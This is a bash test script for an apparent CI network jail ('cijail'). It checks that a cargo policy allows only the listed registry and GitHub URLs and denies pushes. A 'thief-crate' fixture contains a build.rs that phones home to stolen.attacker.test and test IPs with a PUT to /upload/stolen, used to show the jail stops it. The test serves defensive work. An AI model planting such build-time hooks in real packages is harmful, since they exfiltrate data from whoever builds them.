#!/usr/bin/env bash
# The talk's policy of cargo: crates from a registry and one dependency from GitHub. The registry is a sparse index and
# its crates, static files of the test internet; GitHub is git's own http-backend.
# timeout: 300
. "$(dirname "$0")/../lib/lib.sh"
in_test_internet "$@"

mkdir -p home/.cargo crates
export HOME=$PWD/home CARGO_HOME=$PWD/home/.cargo CARGO_NET_RETRY=0 GIT_CONFIG_NOSYSTEM=1
export RUSTC_BOOTSTRAP=1 # before 1.68 a sparse registry is for nightly versions
cat >home/.cargo/config.toml <<'END2'
[unstable]
sparse-registry = true
[source.crates-io]
replace-with = "mirror"
[source.mirror]
registry = "sparse+https://index.crates.example/"
END2

crate() { # NAME SOURCE
    mkdir -p "crates/$1/src"
    printf '[package]\nname = "%s"\nversion = "1.0.0"\nedition = "2021"\n' "$1" >"crates/$1/Cargo.toml"
    echo "$2" >"crates/$1/src/lib.rs"
}
crate good-crate 'pub fn name() -> &'\''static str { "good-crate" }'
crate thief-crate ''
cat >crates/thief-crate/build.rs <<'END2'
use std::io::Write;
use std::net::{TcpStream, ToSocketAddrs};
fn main() {
    let mut tried = std::fs::File::create(std::env::var("TRIED").unwrap()).unwrap();
    match ("stolen.attacker.test", 443).to_socket_addrs() {
        Ok(_) => writeln!(tried, "resolved").unwrap(),
        Err(_) => writeln!(tried, "not resolved").unwrap(),
    }
    for address in ["198.51.100.66:80", "[2001:db8:10::66]:80", "198.51.100.66:443"] {
        let mut ok = false;
        if let Ok(mut s) = TcpStream::connect(address) {
            let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(10)));
            let _ = s.write_all(b"PUT /upload/stolen HTTP/1.1\r\nHost: attacker.test\r\nContent-Length: 0\r\n\r\n");
            let mut answer = [0u8; 12];
            ok = std::io::Read::read_exact(&mut s, &mut answer).is_ok() && &answer[9..10] == b"2";
        }
        writeln!(tried, "{} {}", address, if ok { "reached" } else { "not reached" }).unwrap();
    }
}
END2
# shellcheck disable=SC2016 # cargo fills these in
printf '{"dl": "https://static.crates.example/crates/{crate}/{crate}-{version}.crate"}' >"$T_NET/www/crates-index/config.json"
python3 "$T_LIB/registry.py" cargo "$T_NET/www/crates-index" "$T_NET/www/crates" crates/*

# The dependency on GitHub.
crate git-crate 'pub fn name() -> &'\''static str { "git-crate" }'
(
    cd crates/git-crate && git init -q -b main && git add . &&
        git -c user.name=test -c user.email=test@example.org commit -q -m first &&
        git clone -q --bare . "$T_NET/git/git-crate.git"
)
git -C "$T_NET/git/git-crate.git" config http.receivepack true

mkdir -p project/src && cd project
cat >Cargo.toml <<'END2'
[package]
name = "project"
version = "0.1.0"
edition = "2021"
[dependencies]
good-crate = "1"
git-crate = { git = "https://github.example/staex-io/git-crate.git" }
END2
echo 'fn main() { println!("{} {}", good_crate::name(), git_crate::name()); }' >src/main.rs

# The policy of the talk, with its comments.
cat >../cargo.policy <<'END2'
# crates: the index, and the archives; nobody publishes from a build
GET,HEAD:https://index.crates.example/
GET,HEAD:https://static.crates.example/crates/

# GitHub: one organisation, to be cloned from: a GET that announces it, and a POST that asks for objects
GET:https://github.example/staex-io/
POST:https://github.example/staex-io/git-crate.git/git-upload-pack   # and not git-receive-pack: no push
END2

t_case 'cargo build with the policy of the talk'
T_LIMIT=120 run cijail --fail-on-deny -p ../cargo.policy -- cargo build
t_status 0
t_denials 0
t_eq "$(target/debug/project)" 'good-crate git-crate'

t_case 'and again from its caches, without a network'
rm -rf target
T_LIMIT=120 run cijail --fail-on-deny -- cargo build --offline
t_status 0
t_true test -x target/debug/project

t_case 'the crates without GitHub, and GitHub without the crates: each is denied and named'
rm -rf ../home/.cargo/registry ../home/.cargo/git
T_LIMIT=60 run cijail -e 'https://index.crates.example/ https://static.crates.example/' -- cargo fetch
t_assert 'cargo succeeded' test "$status" != 0
t_match "$err" 'deny .*github\.example'
T_LIMIT=60 run cijail -e 'https://github.example/staex-io/' -- cargo fetch
t_assert 'cargo succeeded' test "$status" != 0
t_match "$err" 'deny .*index\.crates\.example'
T_LIMIT=60 run cijail -e 'https://github.example/staex-io/ https://index.crates.example/' -- cargo fetch
t_assert 'cargo succeeded' test "$status" != 0
t_match "$err" 'deny .*static\.crates\.example'

t_case 'git: clone is allowed, push is denied, and allowed by a policy that says so'
run cijail -p ../cargo.policy -- git clone -q https://github.example/staex-io/git-crate.git clone
t_status 0
cd clone
git -c user.name=test -c user.email=test@example.org commit -q --allow-empty -m second
run cijail -p ../../cargo.policy -- git push -q origin HEAD:stolen
t_assert 'git succeeded' test "$status" != 0
t_match "$err" 'deny - POST https://github\.example/staex-io/git-crate\.git/git-receive-pack$'
t_false git -C "$T_NET/git/git-crate.git" show-ref -q --heads stolen
run cijail -p ../../cargo.policy -e 'POST:https://github.example/staex-io/git-crate.git/git-receive-pack' -- \
    git push -q origin HEAD:given
t_status 0
t_true git -C "$T_NET/git/git-crate.git" show-ref -q --heads given
cd ..

t_case "another's repository is denied"
run cijail -p ../cargo.policy -- git clone -q https://github.example/somebody/git-crate.git other
t_assert 'git succeeded' test "$status" != 0
t_match "$err" 'deny - GET https://github\.example/somebody/git-crate\.git/info/refs'

t_case 'a build script that phones home: nothing leaves'
sed -i 's/^good-crate.*/&\nthief-crate = "1"/' Cargo.toml
export TRIED=$PWD/tried
wire_start
T_LIMIT=120 run cijail -p ../cargo.policy -- cargo build
wire_stop
t_status 0
t_eq "$(grep -c '^not resolved$' tried) $(grep -c 'not reached' tried)" '1 3'
t_no_match "$WIRE" '198\.51\.100\.66|2001:db8:10::66|attacker'
t_match "$err" 'deny resolve stolen\.attacker\.test'
t_match "$err" 'deny .*(198\.51\.100\.66|attacker\.test)'

t_case 'the twin: with a policy that lets it out, it gets out'
rm -rf target
T_LIMIT=120 run cijail -p ../cargo.policy -e 'https://stolen.attacker.test/ http://attacker.test/' -- cargo build
t_status 0
t_eq "$(grep -cx 'resolved' tried) $(grep -c '0 reached' tried)" '1 2'

t_done
